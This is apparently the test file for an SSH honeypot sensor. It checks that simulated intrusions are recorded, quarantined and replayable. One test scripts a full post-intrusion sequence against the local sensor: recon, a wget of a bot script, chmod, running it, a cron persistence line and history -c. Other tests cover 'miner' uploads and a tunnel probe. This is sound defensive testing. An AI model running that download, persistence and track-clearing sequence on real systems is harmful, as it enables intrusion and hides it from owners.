// Real clients against the SSH sensor's shell: an interactive OpenSSH session in a tmux pty runs a
// post-intrusion sequence that downloads from a loopback HTTP server this test runs; exec; scp and
// sftp uploads land in quarantine with the right SHA-256; the session replays with `apiary replay`.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { runCli, startApiaryProcess, tempDir } from '../../helpers/apiary-process.js';
import { run, SSH_OPTS, sshWithPassword } from '../../helpers/ssh-tools.js';
import { countMatches, TmuxSession } from '../../helpers/tmux.js';

const PASSWORD = 'Summer2024!';
const BOT = '#!/bin/sh\necho "bot-running on $(hostname)"\n';

/** An Apiary with the SSH sensor on a free loopback port, accepting root with PASSWORD. */
function startShellApiary(sensor: string, extra: Record<string, unknown> = {}): ReturnType<typeof startApiaryProcess> {
  return startApiaryProcess({ sensor, auth: [{ user: 'root', password: PASSWORD }], services: { ssh: { listen: ['127.0.0.1:0'], failure_delay_ms: 0 } }, ...extra });
}

test('interactive OpenSSH session: recon, download, chmod, run, crontab, history -c; recorded and replayable', async () => {
  let served = 0;
  const http = createServer((req, res) => {
    served++;
    if (req.url === '/bot.sh') res.end(BOT);
    else res.writeHead(404).end('not found');
  });
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
  const httpPort = (http.address() as AddressInfo).port;
  const apiary = await startShellApiary('shell-interactive', {
    shell: { seed: 'interactive-test', hostname: 'web-prod-01' },
    fetch: { enabled: true, allow_cidrs: ['127.0.0.0/8'] },
  });
  const port = apiary.ports.ssh!;
  const tmux = new TmuxSession(`sshpass -p '${PASSWORD}' ssh ${SSH_OPTS.join(' ')} -p ${port} root@127.0.0.1`, { width: 120, height: 40 });
  try {
    const prompt = /root@web-prod-01:[^\n]*# $/m;
    await tmux.waitFor(prompt);
    let n = countMatches(tmux.screen(), /root@web-prod-01:\S*# /);
    const step = async (line: string): Promise<string> => {
      const s = await tmux.line(line, (sc) => countMatches(sc, /root@web-prod-01:\S*# /) > n);
      n = countMatches(s, /root@web-prod-01:\S*# /);
      return s;
    };
    await step('uname -a');
    await step("cat /proc/cpuinfo | grep name | wc -l");
    await step('free -m');
    await step('w');
    await step('cd /tmp');
    await step(`wget http://127.0.0.1:${httpPort}/bot.sh`);
    await step('chmod +x bot.sh');
    await step('./bot.sh');
    await step('(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/bot.sh") | crontab -');
    await step('crontab -l');
    await step('history -c');
    const screen = await step('history | wc -l');
    tmux.type('exit');
    tmux.key('Enter');
    await tmux.waitFor(() => tmux.paneDead(), 10_000);

    assert.match(screen, /Linux web-prod-01 6\.1\.0-\d+-amd64 #1 SMP PREEMPT_DYNAMIC Debian .* x86_64 GNU\/Linux/);
    assert.match(screen, /Mem: +\d+ +\d+/);
    assert.match(screen, /USER +TTY +FROM +LOGIN@/);
    assert.match(screen, /Saving to: .bot\.sh./);
    assert.match(screen, /saved \[\d+\/\d+\]/);
    assert.match(screen, /bot-running on web-prod-01/);
    assert.match(screen, /^\*\/5 \* \* \* \* \/tmp\/bot\.sh$/m);
    assert.match(screen, /root@web-prod-01:\/tmp# history \| wc -l\n1\n/);
    assert.equal(served, 1);

    await apiary.stop();
    const events = (await apiary.events()).filter((e) => e.protocol === 'ssh');
    const inputs = events.filter((e) => e.type === 'command.input');
    assert.deepEqual(inputs.map((e) => e.input), ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'w', 'cd /tmp', `wget http://127.0.0.1:${httpPort}/bot.sh`, 'chmod +x bot.sh', './bot.sh', '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/bot.sh") | crontab -', 'crontab -l', 'history -c', 'history | wc -l', 'exit']);
    assert.ok(inputs.every((e) => e.known === true));
    const dl = events.find((e) => e.type === 'file.download' && e.url);
    assert.equal(dl?.url, `http://127.0.0.1:${httpPort}/bot.sh`);
    assert.equal(dl?.sha256, createHash('sha256').update(BOT).digest('hex'));
    assert.equal(dl?.outcome, 'stored');
    assert.equal(dl?.path, '/tmp/bot.sh');
    assert.deepEqual(readFileSync(join(apiary.dir, 'data', 'quarantine', String(dl?.sha256))), Buffer.from(BOT));
    const size = events.find((e) => e.type === 'client.size');
    assert.deepEqual([size?.width, size?.height], [120, 40]);
    assert.match(String(size?.term), /screen|tmux|xterm/);

    // The recording replays what the attacker saw.
    const session = String(inputs[0]!.session);
    const replay = await runCli(['replay', '--config', apiary.configPath, session.slice(0, 8), '--instant']);
    assert.match(replay.stdout, /bot-running on web-prod-01/);
    assert.match(replay.stdout, /root@web-prod-01:\/tmp# /);
    const cast = readFileSync(join(apiary.dir, 'data', 'recordings', `${session}.cast`), 'utf8').split('\n');
    const header = JSON.parse(cast[0]!) as { version: number; width: number; height: number };
    assert.deepEqual([header.version, header.width, header.height], [2, 120, 40]);
    assert.ok(cast.slice(1).some((l) => l.includes('"i"')), 'input is recorded');
    const times = cast.slice(1).filter(Boolean).map((l) => (JSON.parse(l) as [number])[0]);
    assert.deepEqual([...times].sort((a, b) => a - b), times, 'timestamps only move forward');
    assert.ok(new Set(times).size > 10 && times.at(-1)! > times[0]!, 'the recording has real timing');
    // Recorded as Cowrie records a TTY log: opened, then closed with its size and length, before the connection's close.
    const own = events.filter((e) => e.session === session);
    const recs = own.filter((e) => e.type === 'session.recording');
    const path = join(apiary.dir, 'data', 'recordings', `${session}.cast`);
    assert.deepEqual(recs.map((e) => [e.state, e.path, e.format]), [['open', path, 'asciicast'], ['closed', path, 'asciicast']]);
    assert.equal(recs[1]!.size, readFileSync(path).length);
    assert.ok(Number(recs[1]!.duration_ms) > 0);
    assert.equal(own.at(-1)!.type, 'connection.close', 'connection.close stays the last');
  } finally {
    tmux.kill();
    http.close();
    await apiary.stop();
  }
});

test('exec, scp (SFTP and legacy) and sftp uploads: answers, exit codes, and quarantine with the right SHA-256', async () => {
  const apiary = await startShellApiary('shell-exec', {
    shell: { seed: 'exec-test' },
  });
  const port = apiary.ports.ssh!;
  const dir = tempDir();
  const a = join(dir, 'miner.bin');
  const b = join(dir, 'legacy.bin');
  const c = join(dir, 'sftp.bin');
  const content = (tag: string): Buffer => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.from(tag.repeat(5000))]);
  writeFileSync(a, content('scp-sftp-mode '));
  writeFileSync(b, content('scp-legacy-mode '));
  writeFileSync(c, content('sftp-put '));
  const sha = (p: string): string => createHash('sha256').update(readFileSync(p)).digest('hex');
  try {
    const r = await sshWithPassword(port, 'root', PASSWORD, 'uname -m; id -u; nonexistent-tool; exit 7');
    assert.equal(r.code, 7);
    assert.equal(r.stdout, 'x86_64\n0\nbash: line 1: nonexistent-tool: command not found\n');
    const scp = await run('sshpass', ['-p', PASSWORD, 'scp', ...SSH_OPTS, '-P', String(port), a, 'root@127.0.0.1:/tmp/miner.bin'], { timeoutMs: 30_000 });
    assert.equal(scp.code, 0, scp.stderr);
    const legacy = await run('sshpass', ['-p', PASSWORD, 'scp', '-O', ...SSH_OPTS, '-P', String(port), b, 'root@127.0.0.1:/tmp/'], { timeoutMs: 30_000 });
    assert.equal(legacy.code, 0, legacy.stderr);
    const sftp = await run('sshpass', ['-p', PASSWORD, 'sftp', ...SSH_OPTS, '-P', String(port), 'root@127.0.0.1'], { input: `put ${c} /root/sftp.bin\nls -l /root\n`, timeoutMs: 30_000 });
    assert.equal(sftp.code, 0, sftp.stderr);
    assert.match(sftp.stdout, /sftp\.bin/);
    // The attacker sees their files, with the right content, in the next session.
    const check = await sshWithPassword(port, 'root', PASSWORD, 'sha256sum /tmp/miner.bin /tmp/legacy.bin /root/sftp.bin');
    assert.equal(check.stdout, `${sha(a)}  /tmp/miner.bin\n${sha(b)}  /tmp/legacy.bin\n${sha(c)}  /root/sftp.bin\n`);
    await apiary.stop();
    const events = await apiary.events();
    const uploads = events.filter((e) => e.type === 'file.upload');
    assert.deepEqual(
      uploads.map((e) => [e.filename, e.sha256, e.outcome]),
      [
        ['/tmp/miner.bin', sha(a), 'stored'],
        ['/tmp/legacy.bin', sha(b), 'stored'],
        ['/root/sftp.bin', sha(c), 'stored'],
      ],
    );
    for (const p of [a, b, c]) assert.deepEqual(readFileSync(join(apiary.dir, 'data', 'quarantine', sha(p))), readFileSync(p));
    const exec = events.find((e) => e.type === 'command.input' && String(e.input).startsWith('uname -m'));
    assert.equal(exec?.known, false, 'a line with an unknown command is recorded as not known');
  } finally {
    await apiary.stop();
  }
});

test('a port-forward (ssh -W) is recorded as tunnel.request with its first bytes, and refused', async () => {
  const apiary = await startShellApiary('shell-tunnel');
  try {
    // 198.51.100.80 is a documentation address: the sensor never connects anywhere.
    const r = await run('sshpass', ['-p', PASSWORD, 'ssh', ...SSH_OPTS, '-p', String(apiary.ports.ssh), '-W', '198.51.100.80:80', 'root@127.0.0.1'], {
      input: 'GET /proxy-check HTTP/1.1\r\nHost: 198.51.100.80\r\n\r\n',
      timeoutMs: 30_000,
    });
    assert.equal(r.stdout, '', 'nothing comes back through the tunnel');
    await apiary.stop();
    const t = (await apiary.events(['--type', 'tunnel.request']))[0];
    assert.equal(t?.target_host, '198.51.100.80');
    // (The payload's dst_port is shadowed by the envelope's in the flat JSON view, so it is not checked here.)
    assert.ok(String(t?.first_bytes_hex).startsWith(Buffer.from('GET /proxy-check').toString('hex')), String(t?.first_bytes_hex));
  } finally {
    await apiary.stop();
  }
});

test('several exec channels on one connection share one recording, in order', async () => {
  const apiary = await startShellApiary('shell-multi-exec');
  try {
    // ssh2's client opens one channel per exec on the same connection, as bot libraries do.
    const { Client } = (await import('ssh2')).default;
    const c = new Client();
    await new Promise<void>((res, rej) => {
      c.on('ready', () => res());
      c.on('error', rej);
      c.connect({ host: '127.0.0.1', port: apiary.ports.ssh!, username: 'root', password: PASSWORD });
    });
    const exec = (cmd: string): Promise<string> =>
      new Promise((res, rej) =>
        c.exec(cmd, (err, ch) => {
          if (err) return rej(err);
          let out = '';
          ch.on('data', (d: Buffer) => (out += d.toString()));
          ch.on('close', () => res(out));
          ch.end();
        }),
      );
    assert.equal(await exec('echo first-channel'), 'first-channel\n');
    assert.equal(await exec('echo second-channel'), 'second-channel\n');
    c.end();
    await apiary.stop();
    const session = String((await apiary.events(['--type', 'command.input']))[0]?.session);
    const replay = await runCli(['replay', '--config', apiary.configPath, session, '--instant']);
    assert.match(replay.stdout, /first-channel[\s\S]*second-channel/);
  } finally {
    await apiary.stop();
  }
});

test('a password the attacker sets with chpasswd works for their next login, as on a real server', async () => {
  const apiary = await startShellApiary('shell-chpasswd');
  try {
    const port = apiary.ports.ssh!;
    assert.notEqual((await sshWithPassword(port, 'root', 'N3wPass!x', 'id')).code, 0, 'not accepted before');
    const set = await sshWithPassword(port, 'root', PASSWORD, 'echo "root:N3wPass!x" | chpasswd');
    assert.equal(set.code, 0, set.stderr);
    const again = await sshWithPassword(port, 'root', 'N3wPass!x', 'id -u');
    assert.equal(again.stdout, '0\n');
    await apiary.stop();
    const attempts = (await apiary.events(['--type', 'auth.attempt'])).map((e) => [e.password, e.success]);
    assert.deepEqual(attempts, [['N3wPass!x', false], [PASSWORD, true], ['N3wPass!x', true]]);
  } finally {
    await apiary.stop();
  }
});
